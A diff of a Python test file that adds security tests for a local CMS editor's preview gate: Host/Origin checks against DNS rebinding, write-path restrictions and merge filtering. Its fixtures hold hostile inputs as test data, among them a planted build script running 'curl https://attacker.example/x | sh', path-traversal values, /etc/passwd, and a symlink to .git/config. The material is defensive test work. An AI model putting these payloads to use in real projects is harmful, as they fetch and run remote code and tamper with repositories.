@@ -5,30 +5,45 @@ The incident: with an uncommitted case in the folder, saving a different case in
 branch; the first case vanished from main. Here the same save, driven through decap-server's
 HTTP API with the request the form sends (persistEntry), runs against the editor's own
 worktree. The same test run on the old flow fails (it is marked as an expected failure).
+
+Issue 34: decap-server would write any file a request names, and `--merge` merged whatever
+the entry's branch held. The requests here go through the preview's /api/v1, as the form's
+do, with a browser's headers; a foreign Host or Origin is refused, a save outside the
+editor's folders is refused, and a branch holding other files is never merged.
 """
 
 from __future__ import annotations
 
+import contextlib
+import functools
 import json
 import os
 import shutil
+import threading
+import urllib.error
 import urllib.request
 from collections.abc import Iterator
+from http.server import ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
 
 import pytest
 
 from casebook.cli import main
+from casebook.commands.editorgate import forward, refusal, writable, write_refusal
 from casebook.commands.localeditor import (
     DECAP_SERVER,
     EDITOR_BRANCH,
+    Backend,
+    EditorError,
     Workspace,
+    editor_lock,
     prepare,
     saved_entries,
     start_backend,
     stop_backend,
 )
+from casebook.commands.serve import Preview, PreviewHandler
 from casebook.sources.project import Project
 from sitebuild import REPO, copy_project, free_port, git
 
@@ -53,34 +68,56 @@ def _require_tools() -> None:
         pytest.skip("git or decap-server is missing: bash scripts/setup.sh --test")
 
 
-def _api(port: int, action: str, params: dict[str, Any]) -> Any:
+def _browser(port: int) -> dict[str, str]:
+    """The headers a browser sends with the form's requests from the preview's /admin/."""
+    return {
+        "Content-Type": "application/json",
+        "Origin": f"http://127.0.0.1:{port}",
+        "Sec-Fetch-Site": "same-origin",
+    }
+
+
+def _api(port: int, action: str, params: dict[str, Any], **headers: str) -> Any:
+    """A request to the preview's /api/v1, as the form in the browser sends it (headers
+    given replace the browser's: Host, Origin, Sec_Fetch_Site...)."""
+    sent = _browser(port) | {k.replace("_", "-"): v for k, v in headers.items()}
     request = urllib.request.Request(
         f"http://127.0.0.1:{port}/api/v1",
         data=json.dumps({"action": action, "params": params}).encode(),
-        headers={"Content-Type": "application/json"},
+        headers=sent,
     )
     with urllib.request.urlopen(request, timeout=30) as response:
         return json.loads(response.read())
 
 
+def _status(port: int, action: str, params: dict[str, Any], **headers: str) -> int:
+    try:
+        _api(port, action, params, **headers)
+    except urllib.error.HTTPError as refused:
+        return refused.code
+    return 200
+
+
+def _entry(
+    branch: str, collection: str, path: str, raw: str, assets: list[dict[str, str]] | None = None
+) -> dict[str, Any]:
+    slug = Path(path).stem
+    return {
+        "branch": branch,
+        "dataFiles": [{"slug": slug, "path": path, "raw": raw}],
+        "assets": assets or [],
+        "options": {
+            "collectionName": collection,
+            "commitMessage": f"Create {collection} “{slug}”",
+            "useWorkflow": True,
+            "status": "draft",
+        },
+    }
+
+
 def persist(port: int, branch: str, collection: str, path: str, raw: str) -> Any:
     """What the form sends when Save is chosen on a new entry (Decap's proxy backend)."""
-    slug = Path(path).stem
-    return _api(
-        port,
-        "persistEntry",
-        {
-            "branch": branch,
-            "dataFiles": [{"slug": slug, "path": path, "raw": raw}],
-            "assets": [],
-            "options": {
-                "collectionName": collection,
-                "commitMessage": f"Create {collection} “{slug}”",
-                "useWorkflow": True,
-                "status": "draft",
-            },
-        },
-    )
+    return _api(port, "persistEntry", _entry(branch, collection, path, raw))
 
 
 @pytest.fixture
@@ -97,25 +134,51 @@ def repo(tmp_path: Path) -> Path:
     return root
 
 
-@pytest.fixture
-def backend(repo: Path, request: pytest.FixtureRequest) -> Iterator[tuple[int, str]]:
-    """decap-server, run as `casebook edit` runs it, or as CONTRIBUTING used to say."""
+@contextlib.contextmanager
+def preview_gate(worktree: Path, backend: Backend, branch: str) -> Iterator[int]:
+    """The preview's server as `casebook edit` runs it (its /api/v1 forwards to
+    decap-server), without building the site: the port it listens on."""
     port = free_port()
-    if request.param == "casebook edit":
+    preview = Preview(Project(worktree), port=port, cms_branch=branch, backend=backend.socket_path)
+    handler = type("Handler", (PreviewHandler,), {"preview": preview})
+    server = ThreadingHTTPServer(
+        ("127.0.0.1", port), functools.partial(handler, directory=str(preview.site))
+    )
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield port
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+@pytest.fixture
+def decap(repo: Path, request: pytest.FixtureRequest) -> Iterator[tuple[Backend, Path, str]]:
+    """decap-server, run as `casebook edit` runs it, or as CONTRIBUTING used to say."""
+    if getattr(request, "param", "casebook edit") == "casebook edit":
         space = prepare(Project(repo))
         branch = EDITOR_BRANCH
     else:  # MODE=git node_modules/.bin/decap-server, in the project's folder, on main
         space = Workspace(repo, repo, "main")
         branch = "main"
-    server = start_backend(Project(repo), space, port)
+    server = start_backend(Project(repo), space)
     try:
-        yield port, branch
+        yield server, space.worktree, branch
     finally:
         stop_backend(server)
 
 
+@pytest.fixture
+def backend(decap: tuple[Backend, Path, str]) -> Iterator[tuple[int, str]]:
+    """The preview's port, forwarding to decap-server, and the form's branch."""
+    server, worktree, branch = decap
+    with preview_gate(worktree, server, branch) as port:
+        yield port, branch
+
+
 @pytest.mark.parametrize(
-    "backend",
+    "decap",
     [
         "casebook edit",
         pytest.param(
@@ -147,7 +210,6 @@ def test_saving_in_the_form_leaves_uncommitted_work_where_it_was(
     assert not (repo / f"case_studies/{CASE_ID}.md").exists()
 
 
-@pytest.mark.parametrize("backend", ["casebook edit"], indirect=True)
 def test_merging_a_saved_case_keeps_the_board_working(
     repo: Path, backend: tuple[int, str], capsys: pytest.CaptureFixture[str]
 ) -> None:
@@ -217,7 +279,6 @@ def test_the_editor_worktree_is_reused_and_repaired(repo: Path) -> None:
     assert git(first.worktree, "symbolic-ref", "--short", "HEAD").strip() == EDITOR_BRANCH
 
 
-@pytest.mark.parametrize("backend", ["casebook edit"], indirect=True)
 def test_an_entry_published_from_the_board_is_kept_and_pointed_out(
     repo: Path, backend: tuple[int, str]
 ) -> None:
@@ -235,3 +296,298 @@ def test_an_entry_published_from_the_board_is_kept_and_pointed_out(
         f"not yet on main; bring them in with: git merge {EDITOR_BRANCH}"
     ]
     assert git(repo, "show", f"{EDITOR_BRANCH}:case_studies/{CASE_ID}.md") == CASE
+
+
+# --- what a save and a merge may bring in (issue 34) -----------------------------------------
+
+PLANTED = {
+    "scripts/build.sh": "#!/bin/sh\ncurl https://attacker.example/x | sh\n",
+    ".github/workflows/deploy.yml": "on: push\njobs: {}\n",
+    ".gitignore": "# nothing is ignored any more\n",
+}
+UPLOAD = "docs/assets/uploads/kenya-map.png"
+
+
+def _planted_entry(branch: str) -> dict[str, Any]:
+    """A save naming the case and, beside it, files the form never writes."""
+    params = _entry(branch, "cases", f"case_studies/{CASE_ID}.md", CASE)
+    slug = params["dataFiles"][0]["slug"]
+    params["dataFiles"] += [{"slug": slug, "path": p, "raw": raw} for p, raw in PLANTED.items()]
+    return params
+
+
+@pytest.mark.parametrize("decap", ["casebook edit"], indirect=True)
+def test_a_save_that_writes_outside_the_entry_is_refused_by_the_preview(
+    repo: Path, decap: tuple[Backend, Path, str], backend: tuple[int, str]
+) -> None:
+    port, branch = backend
+    _, worktree, _ = decap
+    assert _status(port, "persistEntry", _planted_entry(branch)) == 403
+    media = _entry(branch, "cases", f"case_studies/{CASE_ID}.md", CASE)
+    media["assets"] = [{"path": ".git", "content": "Z2l0ZGlyOiAvdG1w", "encoding": "base64"}]
+    assert _status(port, "persistEntry", media) == 403
+    traversal = _entry(branch, "cases", "case_studies/../.gitignore", CASE)
+    assert _status(port, "persistEntry", traversal) == 403
+    # Nothing was written or committed anywhere: no branch, a clean worktree.
+    assert saved_entries(repo) == []
+    assert git(worktree, "status", "--porcelain") == ""
+    assert git(repo, "status", "--porcelain").splitlines() == [f"?? {UNSAVED}"]
+
+
+@pytest.mark.parametrize("decap", ["casebook edit"], indirect=True)
+def test_a_merge_brings_in_only_the_entrys_files(
+    repo: Path, decap: tuple[Backend, Path, str], capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Saved straight through decap-server's socket (past the preview's gate, as an older
+    `casebook edit` or any program of this computer could), the entry's branch also holds
+    a build script, a workflow and a new .gitignore: --merge merges none of it."""
+    server, _, branch = decap
+    status, _, _ = forward(
+        server.socket_path,
+        json.dumps({"action": "persistEntry", "params": _planted_entry(branch)}).encode(),
+    )
+    assert status == 200
+    entry = f"cms/cases/{CASE_ID}"
+    assert saved_entries(repo) == [entry]
+    head = git(repo, "rev-parse", "HEAD")
+    before = git(repo, "status", "--porcelain")
+    planted_before = {p: _bytes(repo / p) for p in PLANTED}
+
+    assert main(["--project", str(repo), "edit", "--merge", CASE_ID]) == 1
+    err = capsys.readouterr().err
+    assert "nothing was merged into main" in err
+    assert f"{entry}: .github/workflows/deploy.yml, .gitignore, scripts/build.sh" in err
+    assert f"case_studies/{CASE_ID}.md" not in err.split(f"{entry}: ")[1].splitlines()[0]
+    # Neither the branch nor the working tree changed; the entry is left on its branch.
+    assert git(repo, "rev-parse", "HEAD") == head
+    assert git(repo, "status", "--porcelain") == before
+    assert {p: _bytes(repo / p) for p in PLANTED} == planted_before
+    assert not (repo / f"case_studies/{CASE_ID}.md").exists()
+    assert saved_entries(repo) == [entry]
+    assert git(repo, "show", f"{entry}:scripts/build.sh") == PLANTED["scripts/build.sh"]
+
+
+def _bytes(path: Path) -> bytes | None:
+    return path.read_bytes() if path.exists() else None
+
+
+def _branch_as_decap_makes_it(repo: Path, branch: str, files: dict[str, str]) -> None:
+    """A cms/ branch from main with these files committed, as decap-server commits a save."""
+    folder = repo.parent / "decap-save"
+    git(repo, "worktree", "add", "-q", "-b", branch, str(folder), "main")
+    for path, text in files.items():
+        (folder / path).parent.mkdir(parents=True, exist_ok=True)
+        (folder / path).write_text(text, encoding="utf-8")
+    git(folder, "add", ".")
+    git(folder, "commit", "-q", "-m", f"Create {branch}")
+    git(repo, "worktree", "remove", str(folder))
+
+
+def test_a_merge_takes_the_entrys_translations_and_the_uploads_it_names(
+    repo: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    case = CASE.replace("TODO", "![A map of the schools](/assets/uploads/kenya-map.png)")
+    _branch_as_decap_makes_it(
+        repo,
+        f"cms/cases/{CASE_ID}",
+        {
+            f"case_studies/{CASE_ID}.md": case,
+            f"case_studies/{CASE_ID}.es.md": case,
+            UPLOAD: "not really a PNG\n",
+            "docs/assets/uploads/unrelated.png": "named by no file of the entry\n",
+            f"case_studies/{CASE_ID}-other.md": "another case\n",
+        },
+    )
+    assert main(["--project", str(repo), "edit", "--merge", CASE_ID]) == 1
+    err = capsys.readouterr().err
+    named = f"cms/cases/{CASE_ID}: case_studies/{CASE_ID}-other.md, "
+    assert named + "docs/assets/uploads/unrelated.png" in err
+    # Without the two foreign files, the case, its translation and its upload come in.
+    git(repo, "branch", "-D", f"cms/cases/{CASE_ID}")
+    _branch_as_decap_makes_it(
+        repo,
+        f"cms/cases/{CASE_ID}",
+        {
+            f"case_studies/{CASE_ID}.md": case,
+            f"case_studies/{CASE_ID}.es.md": case,
+            UPLOAD: "not really a PNG\n",
+        },
+    )
+    assert main(["--project", str(repo), "edit", "--merge", CASE_ID]) == 0
+    merged = git(repo, "diff", "--name-only", "HEAD~1", "HEAD").split()
+    assert merged == [f"case_studies/{CASE_ID}.es.md", f"case_studies/{CASE_ID}.md", UPLOAD]
+    assert git(repo, "status", "--porcelain").splitlines() == [f"?? {UNSAVED}"]
+
+
+def test_a_symbolic_link_named_like_the_case_is_not_merged(
+    repo: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    folder = repo.parent / "decap-save"
+    git(repo, "worktree", "add", "-q", "-b", f"cms/cases/{CASE_ID}", str(folder), "main")
+    (folder / f"case_studies/{CASE_ID}.md").symlink_to("../.git/config")
+    git(folder, "add", ".")
+    git(folder, "commit", "-q", "-m", "A link")
+    git(repo, "worktree", "remove", str(folder))
+    assert main(["--project", str(repo), "edit", "--merge", CASE_ID]) == 1
+    assert f"cms/cases/{CASE_ID}: case_studies/{CASE_ID}.md" in capsys.readouterr().err
+    assert not (repo / f"case_studies/{CASE_ID}.md").is_symlink()
+
+
+def _request(port: int, path: str, method: str = "GET", **headers: str) -> int:
+    body = json.dumps({"action": "info"}).encode() if method == "POST" else None
+    request = urllib.request.Request(
+        f"http://127.0.0.1:{port}{path}",
+        data=body,
+        method=method,
+        headers={k.replace("_", "-"): v for k, v in headers.items()},
+    )
+    try:
+        with urllib.request.urlopen(request, timeout=30) as response:
+            return int(response.status)
+    except urllib.error.HTTPError as refused:
+        return refused.code
+
+
+@pytest.mark.parametrize("decap", ["casebook edit"], indirect=True)
+def test_the_backend_answers_only_the_previews_own_pages(
+    decap: tuple[Backend, Path, str], backend: tuple[int, str]
+) -> None:
+    port, _ = backend
+    info = {"Content_Type": "application/json"}
+    same = {"Origin": f"http://127.0.0.1:{port}", "Sec_Fetch_Site": "same-origin"}
+    # The form on the preview's own page, and a program without a browser's headers, pass.
+    assert _request(port, "/api/v1", "POST", **info, **same) == 200
+    assert _request(port, "/api/v1", "POST", **info) == 200
+    local = {"Origin": f"http://localhost:{port}", "Host": f"localhost:{port}"}
+    assert _request(port, "/api/v1", "POST", **info, **local) == 200
+    # Another host's name (DNS rebinding), another origin, another port of this computer.
+    assert _request(port, "/api/v1", "POST", **info, Host=f"attacker.example:{port}") == 403
+    assert _request(port, "/api/v1", "POST", **info, Host="127.0.0.1:8081") == 403
+    assert _request(port, "/", Host=f"attacker.example:{port}") == 403
+    for origin in ("http://localhost:3000", "https://attacker.example", "null"):
+        assert _request(port, "/api/v1", "POST", **info, Origin=origin) == 403, origin
+    for site in ("same-site", "cross-site", "none"):
+        assert _request(port, "/api/v1", "POST", **info, Sec_Fetch_Site=site) == 403, site
+    # A plain-text POST needs no CORS preflight in a browser: refused too.
+    assert _request(port, "/api/v1", "POST", Content_Type="text/plain") == 403
+    assert _status(port, "info", {}, Origin="http://localhost:3000") == 403
+    assert _api(port, "info", {})["type"] == "local_git"
+
+
+@pytest.mark.parametrize("decap", ["casebook edit"], indirect=True)
+def test_decap_server_listens_on_no_tcp_port(decap: tuple[Backend, Path, str]) -> None:
+    """Its only socket is the Unix one in a folder of this user's only."""
+    server, _, _ = decap
+    proc = Path("/proc")
+    if not (proc / "net" / "tcp").is_file():
+        pytest.skip("needs Linux's /proc")
+    assert (server.folder.stat().st_mode & 0o777) == 0o700
+    listening = set()
+    for table in ("tcp", "tcp6"):
+        for line in (proc / "net" / table).read_text().splitlines()[1:]:
+            fields = line.split()
+            if fields[3] == "0A":  # LISTEN
+                listening.add(fields[9])
+    owned = set()
+    for fd in (proc / str(server.process.pid) / "fd").iterdir():
+        with contextlib.suppress(OSError):
+            target = os.readlink(fd)
+            if target.startswith("socket:["):
+                owned.add(target[len("socket:[") : -1])
+    assert owned, "decap-server has no socket at all"
+    assert owned & listening == set()
+    assert server.socket_path.is_socket()
+
+
+@pytest.mark.parametrize("decap", ["casebook edit"], indirect=True)
+def test_the_served_config_points_the_form_at_the_preview(
+    decap: tuple[Backend, Path, str], backend: tuple[int, str]
+) -> None:
+    port, branch = backend
+    _, worktree, _ = decap
+    config = worktree / "build" / "preview" / "site" / "admin" / "config.yml"
+    config.parent.mkdir(parents=True)
+    config.write_text(
+        "backend:\n  name: github\n  branch: main\n"
+        "local_backend:\n  url: http://localhost:8081/api/v1\n",
+        encoding="utf-8",
+    )
+    for host in (f"127.0.0.1:{port}", f"localhost:{port}"):
+        request = urllib.request.Request(
+            f"http://127.0.0.1:{port}/admin/config.yml", headers={"Host": host}
+        )
+        with urllib.request.urlopen(request, timeout=30) as response:
+            served = response.read().decode("utf-8")
+        assert f"url: http://{host}/api/v1" in served and f"branch: {branch}" in served
+
+
+# --- the gate on its own (no decap-server needed) --------------------------------------------
+
+JSON = ("Content-Type", "application/json")
+
+
+@pytest.mark.parametrize(
+    ("headers", "refused"),
+    [
+        ([("Host", "127.0.0.1:8000"), JSON], ""),
+        ([("Host", "localhost:8000"), ("Origin", "http://localhost:8000"), JSON], ""),
+        ([("host", "127.0.0.1:8000"), ("sec-fetch-site", "same-origin"), JSON], ""),
+        ([("Host", "attacker.example:8000"), JSON], "Host was 'attacker.example:8000'"),
+        ([("Host", "127.0.0.1:8001"), JSON], "Host was '127.0.0.1:8001'"),
+        ([("Host", "127.0.0.1:8000"), ("Host", "attacker.example"), JSON], "two Host headers"),
+        ([JSON], "Host was ''"),
+        ([("Host", "127.0.0.1:8000"), ("Origin", "http://localhost:8000"), JSON], "Origin"),
+        ([("Host", "127.0.0.1:8000"), ("Origin", "http://127.0.0.1:3000"), JSON], "Origin"),
+        ([("Host", "127.0.0.1:8000"), ("Sec-Fetch-Site", "same-site"), JSON], "Sec-Fetch-Site"),
+        ([("Host", "127.0.0.1:8000"), ("Content-Type", "text/plain")], "JSON only"),
+    ],
+)
+def test_the_gate_admits_only_the_previews_own_requests(
+    headers: list[tuple[str, str]], refused: str
+) -> None:
+    why = refusal("POST", "/api/v1", headers, 8000)
+    assert (refused in why and why != "") if refused else why == ""
+
+
+def test_the_gate_lets_pages_be_read_from_anywhere_but_only_at_the_previews_address() -> None:
+    elsewhere = [("Host", "127.0.0.1:8000"), ("Sec-Fetch-Site", "cross-site")]
+    assert refusal("GET", "/cases/odi-mexico/", elsewhere, 8000) == ""
+    assert refusal("GET", "/", [("Host", "rebound.example:8000")], 8000) != ""
+    assert "POST requests only" in refusal("GET", "/api/v1", [("Host", "127.0.0.1:8000")], 8000)
+
+
+@pytest.mark.parametrize(
+    ("path", "allowed"),
+    [
+        ("case_studies/kenya-schools.md", True),
+        ("reflective_questions/cases/kenya-schools.yml", True),
+        ("docs/assets/uploads/map.png", True),
+        ("case_studies/../scripts/build.sh", False),
+        ("case_studies/./x.md", False),
+        ("case_studies//x.md", False),
+        ("/etc/passwd", False),
+        ("case_studies/.git/config", False),
+        (".git", False),
+        ("scripts/build.sh", False),
+        (".github/workflows/deploy.yml", False),
+        ("case_studiesx/a.md", False),
+        ("case_studies", False),
+        (None, False),
+    ],
+)
+def test_a_save_may_write_only_in_the_editors_folders(path: object, allowed: bool) -> None:
+    assert writable(path) is allowed
+    entry = {"slug": "x", "path": path, "raw": "x"}
+    request = {"action": "persistEntry", "params": {"dataFiles": [entry]}}
+    why = write_refusal(json.dumps(request).encode())
+    assert (why == "") is allowed
+
+
+def test_one_casebook_edit_at_a_time(tmp_path: Path) -> None:
+    """Two would run two decap-servers on one worktree; the second is told why it stops."""
+    project = Project(tmp_path)
+    busy = rf"another 'casebook edit' is running in this project \(pid {os.getpid()}\)"
+    with editor_lock(project), pytest.raises(EditorError, match=busy), editor_lock(project):
+        pass
+    with editor_lock(project):  # released when the first one ends
+        pass
